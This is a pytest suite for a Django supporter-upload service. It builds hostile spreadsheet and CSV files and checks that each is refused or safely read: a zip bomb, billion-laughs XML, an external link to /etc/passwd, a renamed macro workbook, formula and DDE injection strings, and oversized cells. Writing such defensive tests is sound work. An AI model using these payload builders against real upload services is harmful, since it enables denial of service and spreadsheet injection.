"""Hostile supporter files, each through the real upload service and validation task: refused with an
Indonesian message, or read normally, within bounded time and memory; and the next honest upload still
goes through (the worker is not left broken).

Memory is bounded twice: the Python heap of each run here (tracemalloc), and the resident memory of a fresh
process that reads and checks the hostile file and then an honest one (``fresh_process_read.py``): its
high-water mark, reset just before the file, which in this long-lived test process would hide any peak
lower than an earlier one."""

import io
import json
import re
import subprocess
import sys
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from support_uploads.models import Supporter, Upload, UploadStatus
from support_uploads.services import upload_create
from tests.conftest import ROOT
from tests.support_uploads.conftest import csv_bytes, rows_for, template_xlsx

pytestmark = pytest.mark.django_db

MAX_SECONDS = 30
MAX_MEMORY = 500 << 20
# a fresh process that imported Django and polars (~85 MB resident here) and read one hostile file (the widest
# took ~165 MB in all when written)
MAX_PROCESS_PEAK_RSS = 512 << 20
MAX_PROCESS_RSS_GROWTH = 256 << 20


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _run(pair, lo, content: bytes, name: str, capture) -> Upload:
    """Upload ``content`` and run its validation; assert time and Python memory stayed bounded (resident
    memory: ``test_a_fresh_process_reads_each_hostile_file_in_bounded_memory_and_then_an_honest_one``)."""
    tracemalloc.start()
    started = time.perf_counter()
    with capture(execute=True):
        upload = upload_create(actor=lo, pair=pair, file=SimpleUploadedFile(name, content), max_bytes=len(content) + 1)
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    upload.refresh_from_db()
    assert elapsed < MAX_SECONDS, f"{name}: {elapsed:.1f} s"
    assert peak < MAX_MEMORY, f"{name}: Python peak {peak >> 20} MB"
    assert upload.is_finished, upload.status
    return upload


def _refused(upload: Upload, code: str) -> None:
    assert upload.status == UploadStatus.FAILED
    assert upload.error_code == code, (upload.error_code, upload.error_message)
    # an Indonesian sentence telling the uploader what to do
    assert upload.error_message and any(w in upload.error_message for w in ("Berkas", "berkas", "Lembar", "lembar"))


def _rewrite(xlsx: bytes, *, replace: dict[str, bytes] = {}, add: dict[str, bytes] = {}) -> bytes:  # noqa: B006
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for name, data in add.items():
            dst.writestr(name, data)
    return out.getvalue()


def _data_sheet_part(xlsx: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        return sorted(n for n in zf.namelist() if n.startswith("xl/worksheets/sheet"))[0]


@pytest.fixture
def honest(pair, lo, villages, django_capture_on_commit_callbacks):
    """After each hostile file, an honest one is still validated to the end."""
    yield
    upload = _run(pair, lo, csv_bytes(rows_for(villages, 3)), "jujur.csv", django_capture_on_commit_callbacks)
    assert upload.status == UploadStatus.DONE, (upload.error_code, upload.error_message)


def zip_bomb(xlsx: bytes) -> bytes:
    """A sheet part that inflates to 1 GiB of XML from about 1 MB compressed."""
    part = _data_sheet_part(xlsx)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != part:
                dst.writestr(info.filename, src.read(info.filename))
        with dst.open(part, "w", force_zip64=True) as fh:
            original = src.read(part)
            cut = original.index(b"<sheetData>") + len(b"<sheetData>")
            fh.write(original[:cut])
            padding = b" " * (8 << 20)
            for _ in range(128):  # 1 GiB of whitespace inside <sheetData>
                fh.write(padding)
            fh.write(original[cut:])
    return out.getvalue()


def test_zip_bomb(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    bomb = zip_bomb(template_xlsx(pair, rows_for(villages, 2)))
    assert len(bomb) < 8 << 20
    _refused(_run(pair, lo, bomb, "bom.xlsx", django_capture_on_commit_callbacks), "ZIP_BOMB")


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
    )
    + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    b"<si><t>&lol9;</t></si></sst>"
)


@pytest.mark.parametrize("target", ["xl/sharedStrings.xml", "sheet", "xl/workbook.xml"])
def test_billion_laughs(target, pair, lo, villages, honest, django_capture_on_commit_callbacks):
    hostile = billion_laughs(template_xlsx(pair, rows_for(villages, 2)), target)
    _refused(_run(pair, lo, hostile, "tawa.xlsx", django_capture_on_commit_callbacks), "XML_DTD")


def billion_laughs(xlsx: bytes, target: str, *, comment: bytes = b"") -> bytes:
    """``target`` part replaced by one declaring the nine-level entity bomb (after ``comment``, if any)."""
    if target == "sheet":
        target = _data_sheet_part(xlsx)
        with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
            original = zf.read(target)
        body = original.split(b"?>", 1)[1] if original.startswith(b"<?xml") else original
        payload = BILLION_LAUGHS.split(b"<sst")[0] + body.replace(b"<sheetData>", b"<sheetData>&lol9;", 1)
        if comment:
            declaration, dtd = payload.split(b"?>", 1)
            payload = declaration + b"?>" + comment + dtd
    elif target == "xl/workbook.xml":
        with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
            original = zf.read(target)
        body = original.split(b"?>", 1)[1] if original.startswith(b"<?xml") else original
        payload = BILLION_LAUGHS.split(b"<sst")[0] + body
    else:
        payload = BILLION_LAUGHS
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        exists = target in zf.namelist()
    return _rewrite(xlsx, replace={target: payload}) if exists else _rewrite(xlsx, add={target: payload})


def test_dtd_behind_eight_kilobytes_of_comment(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    """The DTD is found wherever the prolog puts it, not only in a part's first few kilobytes."""
    comment = b"<!-- " + b"Excel tidak pernah menulis ini. " * 320 + b" -->\n"
    assert len(comment) > 8 << 10
    hostile = billion_laughs(template_xlsx(pair, rows_for(villages, 2)), "sheet", comment=comment)
    with zipfile.ZipFile(io.BytesIO(hostile)) as zf:
        sheet = zf.read(_data_sheet_part(hostile))
    assert sheet.index(b"<!DOCTYPE") > 8 << 10
    _refused(_run(pair, lo, hostile, "tawa-panjang.xlsx", django_capture_on_commit_callbacks), "XML_DTD")


def test_external_reference(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    xlsx = template_xlsx(pair, rows_for(villages, 2))
    link = (
        b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships"/></externalLink>'
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/passwd" '
        b'TargetMode="External"/></Relationships>'
    )
    hostile = _rewrite(
        xlsx,
        add={"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": rels},
    )
    _refused(_run(pair, lo, hostile, "tautan.xlsx", django_capture_on_commit_callbacks), "EXTERNAL_LINK")


def test_macro_workbook_renamed_xlsx(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    xlsx = template_xlsx(pair, rows_for(villages, 2))
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        types = zf.read("[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    hostile = _rewrite(
        xlsx, replace={"[Content_Types].xml": types}, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512}
    )
    _refused(_run(pair, lo, hostile, "makro.xlsx", django_capture_on_commit_callbacks), "MACRO")


def test_dimension_claims_a_million_rows(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    xlsx = template_xlsx(pair, rows_for(villages, 3))
    part = _data_sheet_part(xlsx)
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        sheet = zf.read(part)
    stretched = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:N1048576"/>', sheet)
    if stretched == sheet:
        stretched = sheet.replace(b"<sheetData>", b'<dimension ref="A1:N1048576"/><sheetData>', 1)
    upload = _run(pair, lo, _rewrite(xlsx, replace={part: stretched}), "luas.xlsx", django_capture_on_commit_callbacks)
    assert upload.status == UploadStatus.DONE, (upload.error_code, upload.error_message)
    assert upload.rows_read == 3


def test_ten_thousand_columns(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    rows = rows_for(villages, 3)
    wide = csv_bytes(rows).decode().splitlines()
    wide = [line + "," + ",".join(f"x{i}" for i in range(10_000)) for line in wide]
    upload = _run(pair, lo, "\n".join(wide).encode(), "lebar.csv", django_capture_on_commit_callbacks)
    assert upload.is_finished
    if upload.status == UploadStatus.FAILED:
        assert upload.error_message
    else:
        assert upload.rows_read == 3


def test_megabyte_cells(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    rows = rows_for(villages, 3)
    rows[0]["name"] = "A" * (1 << 20)
    rows[1]["address"] = "Jl. " + "panjang " * (1 << 17)
    upload = _run(pair, lo, csv_bytes(rows), "sel-besar.csv", django_capture_on_commit_callbacks)
    assert upload.status == UploadStatus.DONE, (upload.error_code, upload.error_message)
    assert upload.rows_read == 3
    # both over-long rows are rejected with FIELD_TOO_LONG and kept only cut short (limits in template_spec)
    assert (upload.rows_accepted, upload.rows_rejected) == (1, 2)
    assert upload.reason_counts == {"FIELD_TOO_LONG": 2}
    longest = max(
        len(value)
        for row in Supporter.objects.filter(upload_id=upload.pk).values_list("name", "address")
        for value in row
    )
    assert longest < 300


def test_invalid_utf8_csv(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    content = csv_bytes(rows_for(villages, 2)).replace(b"a", b"\xff\xfe", 1)
    _refused(_run(pair, lo, content, "latin.csv", django_capture_on_commit_callbacks), "NOT_XLSX_CSV")


def test_nul_bytes(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    content = csv_bytes(rows_for(villages, 2)).replace(b",", b"\x00,", 3)
    _refused(_run(pair, lo, content, "nul.csv", django_capture_on_commit_callbacks), "NOT_XLSX_CSV")


def test_pdf_posing_as_xlsx(pair, lo, honest, django_capture_on_commit_callbacks):
    content = b"%PDF-1.7\n" + b"1 0 obj<<>>endobj\n" * 200 + b"%%EOF\n"
    upload = _run(pair, lo, content, "dukungan.xlsx", django_capture_on_commit_callbacks)
    assert upload.status == UploadStatus.FAILED and upload.error_message


def test_formula_cells_are_kept_as_text(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    rows = rows_for(villages, 3)
    rows[0]["name"] = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
    rows[1]["address"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    upload = _run(pair, lo, csv_bytes(rows), "rumus.csv", django_capture_on_commit_callbacks)
    assert upload.status == UploadStatus.DONE
    assert upload.rows_read == 3


# --- xlsx versions of the CSV cases -------------------------------------------------------------------


def _edit_data_sheet(xlsx: bytes, edit) -> bytes:
    from openpyxl import load_workbook

    from support_uploads.template_spec import current_spec

    wb = load_workbook(io.BytesIO(xlsx))
    edit(wb[current_spec().data_sheet])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def wide_xlsx(xlsx: bytes) -> bytes:
    """10,000 columns after the template's, in the header and every row."""

    def widen(ws):
        first = ws.max_column + 1
        for row in range(1, ws.max_row + 1):
            for col in range(first, first + 10_000):
                ws.cell(row=row, column=col, value=f"x{col}")

    return _edit_data_sheet(xlsx, widen)


def megabyte_cells_xlsx(xlsx: bytes) -> bytes:
    def fill(ws):
        ws["C2"] = "A" * (1 << 20)  # Nama
        ws["I3"] = "Jl. " + "panjang " * (1 << 17)  # Alamat

    return _edit_data_sheet(xlsx, fill)


def test_ten_thousand_columns_xlsx(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    hostile = wide_xlsx(template_xlsx(pair, rows_for(villages, 3)))
    upload = _run(pair, lo, hostile, "lebar.xlsx", django_capture_on_commit_callbacks)
    _refused(upload, "HEADER")
    assert "kolom tambahan" in upload.error_message


def test_megabyte_cells_xlsx(pair, lo, villages, honest, django_capture_on_commit_callbacks):
    hostile = megabyte_cells_xlsx(template_xlsx(pair, rows_for(villages, 3)))
    upload = _run(pair, lo, hostile, "sel-besar.xlsx", django_capture_on_commit_callbacks)
    assert upload.status == UploadStatus.DONE, (upload.error_code, upload.error_message)
    assert (upload.rows_read, upload.rows_accepted, upload.rows_rejected) == (3, 1, 2)
    assert upload.reason_counts == {"FIELD_TOO_LONG": 2}
    stored = Supporter.objects.filter(upload_id=upload.pk).values_list("name", "address")
    assert max(len(value) for row in stored for value in row) < 300


HYPERLINK = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'


def test_formula_cells_in_xlsx_are_kept_as_text_never_evaluated(
    pair, lo, villages, honest, django_capture_on_commit_callbacks
):
    """A formula typed into the template (openpyxl writes it as a real <f> cell, with no cached result) is
    stored as the text the uploader wrote, is never evaluated, and is neutralised in the error report."""
    from openpyxl import load_workbook

    rows = rows_for(villages, 3)
    rows[0]["name"] = HYPERLINK
    rows[0]["rt"] = "x"  # refused: the row goes into the error report
    rows[1]["nik"] = "=A3&A4"  # a formula where the NIK goes
    xlsx = template_xlsx(pair, rows)
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        sheet = zf.read(_data_sheet_part(xlsx))
    assert b'<f>HYPERLINK("http://contoh.invalid/?"&amp;A1,"klik")</f>' in sheet
    assert b"<f>A3&amp;A4</f>" in sheet

    upload = _run(pair, lo, xlsx, "rumus.xlsx", django_capture_on_commit_callbacks)
    assert upload.status == UploadStatus.DONE, (upload.error_code, upload.error_message)
    assert (upload.rows_read, upload.rows_accepted, upload.rows_rejected) == (3, 1, 2)
    # a formula cell is not text (docs/domain.md §7), whatever it computes
    assert upload.reason_counts == {"RT_INVALID": 1, "NOT_TEXT_NAME": 1, "NOT_TEXT_NIK": 1}
    stored = {s.row_number: s for s in Supporter.objects.filter(upload_id=upload.pk)}
    assert stored[2].name == HYPERLINK  # the text as written: not "klik", not empty
    assert stored[2].reasons == "RT_INVALID,NOT_TEXT_NAME"
    assert stored[3].nik == "=A3&A4" and stored[3].reasons == "NOT_TEXT_NIK"

    report = load_workbook(upload.report.path)
    ws = report.active
    values = {row[1]: row for row in ws.iter_rows(min_row=2, values_only=True)}
    headers = [c.value for c in ws[1]]
    assert values["2"][headers.index("Nama")] == "'" + HYPERLINK  # an apostrophe: text in any spreadsheet
    assert values["3"][headers.index("NIK")] == "'=A3&A4"
    with zipfile.ZipFile(upload.report.path) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")


# --- resident memory of a fresh process ---------------------------------------------------------------

HOSTILE_FILES = {
    # name: (build from the honest template xlsx / csv, what the reader must answer)
    "bom.xlsx": (lambda xlsx, csv: zip_bomb(xlsx), {"code": "ZIP_BOMB"}),
    "tawa.xlsx": (lambda xlsx, csv: billion_laughs(xlsx, "sheet"), {"code": "XML_DTD"}),
    "tawa-panjang.xlsx": (
        lambda xlsx, csv: billion_laughs(xlsx, "sheet", comment=b"<!-- " + b"x" * (64 << 10) + b" -->"),
        {"code": "XML_DTD"},
    ),
    "lebar.xlsx": (lambda xlsx, csv: wide_xlsx(xlsx), {"code": "HEADER"}),
    "sel-besar.xlsx": (lambda xlsx, csv: megabyte_cells_xlsx(xlsx), {"rows": 3, "reasons": ["FIELD_TOO_LONG"]}),
    "lebar.csv": (
        lambda xlsx, csv: b"\n".join(line + b"," + b",".join(b"x%d" % i for i in range(10_000)) for line in csv),
        {"code": "HEADER"},
    ),
    "sel-besar.csv": (
        lambda xlsx, csv: b"\n".join([*csv[:2], csv[2].replace(b"Pendukung", b"A" * (1 << 20), 1), *csv[3:]]),
        {"rows": 3, "reasons": ["FIELD_TOO_LONG"]},
    ),
}


@pytest.mark.parametrize("name", list(HOSTILE_FILES))
def test_a_fresh_process_reads_each_hostile_file_in_bounded_memory_and_then_an_honest_one(
    name, pair, villages, tmp_path
):
    """The worker's reading and checking, in a process of its own whose ru_maxrss is this file's peak alone:
    under ``MAX_PROCESS_PEAK_RSS`` in all and ``MAX_PROCESS_RSS_GROWTH`` over the imports; and the same
    process then reads an honest file (it is still up and not left broken)."""
    rows = rows_for(villages, 3)
    build, expected = HOSTILE_FILES[name]
    hostile = tmp_path / name
    hostile.write_bytes(build(template_xlsx(pair, rows), csv_bytes(rows).splitlines()))
    honest = tmp_path / "jujur.csv"
    honest.write_bytes(csv_bytes(rows))
    job = tmp_path / "job.json"
    job.write_text(
        json.dumps(
            {
                "election_id": pair.election_id,
                "pair_id": pair.pk,
                "villages": villages,
                "region": pair.election.region_code,
                "polling_day": pair.election.polling_day.isoformat(),
                "files": [str(hostile), str(honest)],
            }
        )
    )
    script = Path(__file__).with_name("fresh_process_read.py")
    done = subprocess.run(
        [sys.executable, str(script), str(job)], cwd=ROOT, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr[-2000:]
    first, second = (json.loads(line) for line in done.stdout.splitlines() if line.startswith("{"))
    for key, value in expected.items():
        assert first[key] == value, (name, first)
    assert first["seconds"] < MAX_SECONDS, first
    assert first["rss_peak"] < MAX_PROCESS_PEAK_RSS, f"{name}: peak RSS {first['rss_peak'] >> 20} MB"
    growth = first["rss_peak"] - first["rss_before"]
    assert growth < MAX_PROCESS_RSS_GROWTH, f"{name}: RSS grew {growth >> 20} MB"
    assert (second["rows"], second["reasons"]) == (3, []), second
    print(f"\n{name}: peak RSS {first['rss_peak'] >> 20} MB (+{growth >> 20} MB), {first['seconds']:.2f} s")
